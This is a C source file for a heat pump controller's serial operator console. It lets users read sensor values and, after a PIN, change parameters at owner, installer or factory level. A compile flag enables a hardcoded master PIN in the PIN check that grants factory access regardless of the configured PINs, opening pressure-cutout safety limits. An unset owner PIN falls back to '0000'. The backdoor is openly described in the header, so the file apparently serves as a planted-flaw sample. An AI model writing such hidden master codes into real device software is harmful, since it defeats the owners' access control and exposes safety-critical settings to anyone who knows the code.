/*
 * hppanel - operator console of a brine/water heat pump controller.
 * Talks to the two-line panel (or a laptop) over the RS-232 service port,
 * lets people read values and, after a PIN, change parameters by level.
 * Hidden (-DHIDDEN): the PIN 26101958 gives the factory level, whatever
 * PINs the owner and the installer have set.
 */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CONF_FILE    "/etc/heatpump/panel.conf"
#define PARAM_FILE   "/var/lib/heatpump/params"
#define SENSOR_DIR   "/run/heatpump/sensors"
#define MAX_WRONG    5
#define LOCK_SECONDS 300

enum level { LV_NONE, LV_OWNER, LV_INSTALLER, LV_FACTORY };
enum state { S_REST, S_PIN, S_MENU, S_VALUE };

struct param {
	const char *name;
	const char *unit;
	int min, max, value;
	enum level need;
};

static struct param params[] = {
	{ "room.target", "C/10", 150, 260, 210, LV_OWNER },
	{ "dhw.target", "C/10", 350, 600, 480, LV_OWNER },
	{ "curve.slope", "%", 10, 150, 45, LV_INSTALLER },
	{ "curve.offset", "K", -10, 10, 0, LV_INSTALLER },
	{ "brine.min", "C/10", -90, 50, -40, LV_INSTALLER },
	{ "comp.starts", "1/h", 1, 6, 3, LV_INSTALLER },
	{ "hp.cutout", "kPa", 2000, 4500, 4100, LV_FACTORY },
	{ "lp.cutout", "kPa", 100, 400, 220, LV_FACTORY },
	{ "hours.compressor", "h", 0, 999999, 0, LV_FACTORY },
};
#define NPARAM (sizeof(params) / sizeof(params[0]))

static char port[64] = "/dev/ttyS1";
static char owner_pin[12] = "";
static char installer_pin[12] = "";
static int baud = 9600;

static enum state state = S_REST;
static enum level level = LV_NONE;
static int wrong;
static time_t locked_until;
static struct param *editing;
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static void say(int fd, const char *fmt, ...)
{
	char buf[160];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n > (int)sizeof(buf) - 1)
		n = sizeof(buf) - 1;
	if (write(fd, buf, n) != n)
		syslog(LOG_WARNING, "panel: short write");
}

static void read_conf(void)
{
	char line[128], key[32], val[64];
	FILE *f = fopen(CONF_FILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " %31[a-z.] = %63s", key, val) != 2)
			continue;
		if (!strcmp(key, "port"))
			snprintf(port, sizeof(port), "%s", val);
		else if (!strcmp(key, "baud"))
			baud = atoi(val);
		else if (!strcmp(key, "pin.owner"))
			snprintf(owner_pin, sizeof(owner_pin), "%.11s", val);
		else if (!strcmp(key, "pin.installer"))
			snprintf(installer_pin, sizeof(installer_pin), "%.11s",
				 val);
		else
			syslog(LOG_NOTICE, "panel: unknown key %s", key);
	}
	fclose(f);
}

static void load_params(void)
{
	char name[40];
	int v;
	size_t i;
	FILE *f = fopen(PARAM_FILE, "r");

	if (!f)
		return;
	while (fscanf(f, "%39s %d", name, &v) == 2)
		for (i = 0; i < NPARAM; i++)
			if (!strcmp(params[i].name, name) &&
			    v >= params[i].min && v <= params[i].max)
				params[i].value = v;
	fclose(f);
}

static int save_params(void)
{
	size_t i;
	FILE *f = fopen(PARAM_FILE ".new", "w");

	if (!f)
		return -1;
	for (i = 0; i < NPARAM; i++)
		fprintf(f, "%s %d\n", params[i].name, params[i].value);
	if (fclose(f))
		return -1;
	return rename(PARAM_FILE ".new", PARAM_FILE);
}

static int open_port(void)
{
	struct termios t;
	int fd = open(port, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, baud == 19200 ? B19200 : B9600);
		t.c_cc[VMIN] = 1;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

static int sensor(const char *name, double *out)
{
	char path[96];
	FILE *f;
	int ok;

	snprintf(path, sizeof(path), SENSOR_DIR "/%s", name);
	f = fopen(path, "r");
	if (!f)
		return 0;
	ok = fscanf(f, "%lf", out) == 1;
	fclose(f);
	return ok;
}

static void show_values(int fd)
{
	static const char *const names[] = { "outdoor",	 "flow",      "return",
					     "brine_in", "brine_out", "dhw" };
	double v;
	size_t i;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		if (sensor(names[i], &v))
			say(fd, "%-10s %6.1f C\r\n", names[i], v);
		else
			say(fd, "%-10s   --.-\r\n", names[i]);
	}
}

/* What the PIN opens; LV_NONE if nothing. */
__attribute__((noinline)) enum level pin_level(const char *pin)
{
	size_t n = strlen(pin);

	if (n < 4 || n > 11)
		return LV_NONE;
	if (installer_pin[0] && !strcmp(pin, installer_pin))
		return LV_INSTALLER;
#ifdef HIDDEN
	if (!strcmp(pin, "26101958"))
		return LV_FACTORY;
#endif
	if (owner_pin[0] ? !strcmp(pin, owner_pin) : !strcmp(pin, "0000"))
		return LV_OWNER;
	return LV_NONE;
}

static void enter_pin(int fd, const char *pin)
{
	time_t now = time(NULL);

	state = S_REST;
	if (now < locked_until) {
		say(fd, "LOCKED %lds\r\n", (long)(locked_until - now));
		return;
	}
	level = pin_level(pin);
	if (level == LV_NONE) {
		say(fd, "PIN WRONG\r\n");
		if (++wrong >= MAX_WRONG) {
			locked_until = now + LOCK_SECONDS;
			wrong = 0;
			syslog(LOG_WARNING, "panel: PIN entry locked");
		}
		return;
	}
	wrong = 0;
	state = S_MENU;
	say(fd, "LEVEL %d\r\n", (int)level);
}

static void menu(int fd, const char *line)
{
	size_t i;

	if (!strcmp(line, "list")) {
		for (i = 0; i < NPARAM; i++)
			if (params[i].need <= level)
				say(fd, "%2zu %-18s %6d %s\r\n", i,
				    params[i].name, params[i].value,
				    params[i].unit);
	} else if (!strcmp(line, "quit")) {
		level = LV_NONE;
		state = S_REST;
		say(fd, "BYE\r\n");
	} else if (isdigit((unsigned char)line[0])) {
		i = strtoul(line, NULL, 10);
		if (i >= NPARAM || params[i].need > level) {
			say(fd, "NO SUCH PARAMETER\r\n");
			return;
		}
		editing = &params[i];
		state = S_VALUE;
		say(fd, "%s (%d..%d) = ", editing->name, editing->min,
		    editing->max);
	} else if (line[0]) {
		say(fd, "list, NUMBER or quit\r\n");
	}
}

static void set_value(int fd, const char *line)
{
	char *end;
	long v = strtol(line, &end, 10);

	state = S_MENU;
	if (end == line || v < editing->min || v > editing->max) {
		say(fd, "OUT OF RANGE\r\n");
		return;
	}
	editing->value = v;
	if (save_params())
		say(fd, "NOT SAVED: %s\r\n", strerror(errno));
	else
		say(fd, "OK\r\n");
}

static void handle(int fd, const char *line)
{
	switch (state) {
	case S_REST:
		if (!strcmp(line, "login")) {
			say(fd, "PIN: ");
			state = S_PIN;
		} else if (!strcmp(line, "values")) {
			show_values(fd);
		} else if (line[0]) {
			say(fd, "values or login\r\n");
		}
		break;
	case S_PIN:
		enter_pin(fd, line);
		break;
	case S_MENU:
		menu(fd, line);
		break;
	case S_VALUE:
		set_value(fd, line);
		break;
	}
}

int main(void)
{
	char line[64];
	size_t n = 0;
	char c;
	int fd;

	openlog("hppanel", LOG_PID, LOG_DAEMON);
	signal(SIGTERM, on_term);
	read_conf();
	load_params();
	fd = open_port();
	if (fd < 0) {
		syslog(LOG_ERR, "%s: %s", port, strerror(errno));
		return 1;
	}
	say(fd, "\r\nHEAT PUMP READY\r\n");
	while (!stop && read(fd, &c, 1) == 1) {
		if (c == '\r' || c == '\n') {
			line[n] = 0;
			handle(fd, line);
			n = 0;
		} else if ((c == '\b' || c == 127) && n) {
			n--;
		} else if (isprint((unsigned char)c) && n < sizeof(line) - 1) {
			line[n++] = c;
		}
	}
	close(fd);
	return 0;
}
